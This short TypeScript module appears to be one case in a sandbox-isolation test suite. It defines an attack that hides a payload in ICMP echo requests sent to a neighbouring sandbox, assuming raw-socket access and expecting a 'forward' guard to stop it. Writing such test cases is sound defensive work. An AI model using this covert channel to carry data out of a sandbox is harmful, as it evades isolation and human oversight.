import type { Attack } from '../../prove/attack.ts'
import { icmpPacket } from '../../prove/packet.ts'

export default {
  tries: 'carries data to another sandbox in echo requests',
  assumes: ['net_raw'],
  guards: ['forward'],
  run: ({ packet, own, neighbour, payload }) =>
    packet(icmpPacket({ source: own[4], destination: neighbour[4] }, 8, 0, Buffer.concat([new Uint8Array(4), payload]))),
} satisfies Attack
